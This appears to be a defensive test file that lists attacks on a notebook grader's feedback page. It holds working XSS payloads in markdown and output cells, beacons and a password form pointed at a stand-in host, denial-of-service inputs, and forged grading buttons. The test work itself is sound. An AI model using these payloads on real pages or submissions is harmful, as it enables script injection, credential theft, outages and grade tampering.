# Attacks on whoever opens the feedback page: script in what a notebook holds. The text changes the notebook's `cells`.

# %% attack="a script in a markdown cell" by="edit" gain="script"
cells.append(
    {
        "cell_type": "markdown",
        "id": "m1",
        "metadata": {},
        "source": "<script>document.title = 'pwned'</script>",
    }
)

# %% attack="an event handler in a markdown cell" by="edit" gain="script"
cells.append(
    {
        "cell_type": "markdown",
        "id": "m1",
        "metadata": {},
        "source": "<img src=x onerror=\"alert('pwned')\">",
    }
)

# %% attack="a drawing that runs script in a markdown cell" by="edit" gain="script"
cells.append(
    {
        "cell_type": "markdown",
        "id": "m1",
        "metadata": {},
        "source": "<svg><animate onbegin='alert(\"pwned\")' attributeName=x dur=1s></animate></svg>",
    }
)

# %% attack="a link that is a script" by="edit" gain="script"
cells.append(
    {
        "cell_type": "markdown",
        "id": "m1",
        "metadata": {},
        "source": "<a href=\"java&#115;cript:alert('pwned')\">full marks</a>",
    }
)

# %% attack="a style that loads a picture" by="edit" gain="script"
cells.append(
    {
        "cell_type": "markdown",
        "id": "m1",
        "metadata": {},
        "source": "<style>body { background: url(https://pwned.example) }</style>",
    }
)

# %% attack="a style sheet from elsewhere" by="edit" gain="script"
cells.append(
    {
        "cell_type": "markdown",
        "id": "m1",
        "metadata": {},
        "source": "<link rel=stylesheet href='https://pwned.example/x.css'>",
    }
)

# %% attack="a frame with a page of one's own" by="edit" gain="script"
cells.append(
    {
        "cell_type": "markdown",
        "id": "m1",
        "metadata": {},
        "source": "<iframe srcdoc=\"<script>parent.alert('pwned')</script>\"></iframe>",
    }
)

# %% attack="a picture that tells who reads" by="edit" gain="script"
cells.append(
    {
        "cell_type": "markdown",
        "id": "m1",
        "metadata": {},
        "source": "![](https://pwned.example/seen.png)",
    }
)

# %% attack="a page that moves on" by="edit" gain="script"
cells.append(
    {
        "cell_type": "markdown",
        "id": "m1",
        "metadata": {},
        "source": "<meta http-equiv=refresh content='0;url=https://pwned.example'>",
    }
)

# %% attack="a form that asks for the password" by="edit" gain="script"
cells.append(
    {
        "cell_type": "markdown",
        "id": "m1",
        "metadata": {},
        "source": "<form action=https://pwned.example><input name=password></form>",
    }
)

# %% attack="displayed HTML with a script" gain="script"
from IPython.display import HTML, display

display(HTML("<script>document.title = 'pwned'</script>"))

# %% attack="displayed JavaScript" gain="script"
from IPython.display import Javascript, display

display(Javascript("document.title = 'pwned'"))

# %% attack="a displayed drawing with a script" gain="script"
from IPython.display import SVG, display

display(SVG("<svg xmlns='http://www.w3.org/2000/svg' onload='alert(\"pwned\")'></svg>"))


# %% attack="an object with its own HTML" gain="script"
class Mine:
    def _repr_html_(self):
        return "<img src=x onerror=\"alert('pwned')\">"


Mine()

# %% attack="markdown displayed as output" gain="script"
from IPython.display import Markdown, display

display(Markdown("<img src=x onerror=\"alert('pwned')\">"))

# %% attack="formulas that carry HTML" gain="script"
from IPython.display import Latex, display

display(Latex("</div><img src=x onerror=\"alert('pwned')\">"))


# %% attack="HTML inside an error" gain="script"
class Fault(Exception):
    def _render_traceback_(self):
        return ["<img src=x onerror=\"alert('pwned')\">"]


raise Fault("<script>pwned</script>")

# %% attack="a widget that loads a script" gain="script"
from IPython.display import display

display(
    {
        "application/vnd.jupyter.widget-view+json": {
            "model_id": "x</script><script>pwned",
            "version_major": 2,
        },
        "text/html": "<script>'pwned'</script>",
    },
    raw=True,
)

# %% attack="a script in the name of a layer" gain="script" exercise="net"
from IPython.display import HTML

net = keras.Sequential(
    [keras.Input((3,)), layers.Dense(5, name="<script>'pwned'</script>")],
    name="<img onerror='pwned'>",
)
HTML(net.name + net.layers[0].name)


# %% attack="a script in an answer to be counted" gain="script" exercise="partial"
class Text(str):
    def _repr_html_(self):
        return "<script>'pwned'</script>"


partial = Text("<script>'pwned'</script>")
partial

# %% attack="a tag opened twenty thousand times" by="edit" gain="slow"
cells += [
    {"cell_type": "markdown", "id": f"m{n}", "metadata": {}, "source": "<b><p>" * 10_000}
    for n in range(30)
]

# %% attack="brackets that never close" by="edit" gain="slow"
cells += [
    {"cell_type": "markdown", "id": f"m{n}", "metadata": {}, "source": "![" * 30_000}
    for n in range(60)
]

# %% attack="a title for the terminal that never ends" by="edit" gain="slow"
cells.append(code("# " + "\x1b]" * 400_000))

# %% attack="hidden tests that begin and never end" by="edit" gain="slow"
cells.append(code("# BEGIN HIDDEN TESTS\n" * 45_000))

# %% attack="a picture shown five thousand times" by="edit" gain="slow"
import base64

picture = base64.b64encode(b"\x89PNG\r\n\x1a\n" + bytes(2 * 2**20)).decode()
cells.append(
    {
        "cell_type": "markdown",
        "id": "m1",
        "metadata": {},
        "source": "![](attachment:a) " * 3_000,
        "attachments": {"a": {"image/png": picture}},
    }
)

# %% attack="thousands of shell commands in a cell" by="edit" gain="slow"
cells.append(code("if 0:\n" + "    !ls\n" * 20_000))

# %% attack="an expression too deep to be read" by="edit" gain="slow"
cells.append(code("x = 1" + "+1" * 200_000))

# %% attack="a comparison as long as a book" by="edit" gain="slow"
cells += [code("if 0: a" + "<a" * 400_000 + f"# {n}") for n in range(3)]

# %% attack="code that takes long to colour" by="edit" gain="slow"
cells += [code("if 0: x = [" + "f'{', " * 2_500 + f"]# {n}") for n in range(300)]

# %% attack="one picture in forty cells, shown again and again" by="edit" gain="slow"
import base64

picture = base64.b64encode(b"\x89PNG\r\n\x1a\n" + bytes(100_000)).decode()
cells += [
    {
        "cell_type": "markdown",
        "id": f"m{n}",
        "metadata": {},
        "source": "![](attachment:a)\n" * 400,
        "attachments": {"a": {"image/png": picture}},
    }
    for n in range(40)
]

# %% attack="a hundred and fifty thousand cells" by="edit" gain="slow"
cells += [{"cell_type": "markdown", "metadata": {}, "source": f"{n}"} for n in range(150_000)]

# %% attack="thirty thousand copies of a locked cell" by="edit" gain="slow"
locked = next(c for c in cells if c["metadata"].get("nbgrader", {}).get("locked"))
cells += [locked] * 30_000

# %% attack="ends and beginnings of hidden tests on one line" by="edit" gain="slow"
cells += [
    code("if 0: x  # END HIDDEN TESTS" + " BEGIN HIDDEN TESTS END" * 13_000) for n in range(3)
]

# %% attack="lines of blanks to be coloured" by="edit" gain="slow"
cells += [code("if 0: x = '" + "\n " * 9_000 + f"'# {n}") for n in range(40)]

# %% attack="millions of values beside the cells" by="edit" gain="slow"
cells[0]["metadata"]["much"] = [[[]] * 1_000] * 1_500

# %% attack="tables upon tables" by="edit" gain="slow"
cells += [
    {"cell_type": "markdown", "metadata": {}, "source": "|a|b|\n|-|-|\n" + "a\n" * 3_900}
    for n in range(300)
]

# %% attack="a link behind lines that look empty" by="edit" gain="script"
cells.append(
    {
        "cell_type": "markdown",
        "id": "m1",
        "metadata": {},
        "source": "```\n \n[a]: javascript:alert('pwned')\n \n[a]\n \n![](https://pwned.example/seen.png)\n```",
    }
)

# %% attack="buttons of the instructor's own page in a raw cell" by="edit" gain="script"
cells.append(
    {
        "cell_type": "raw",
        "id": "m1",
        "metadata": {},
        "source": "<div class='nbgrader_cell'><a class='full-credit' onclick=\"alert('pwned')\">x</a></div>",
    }
)
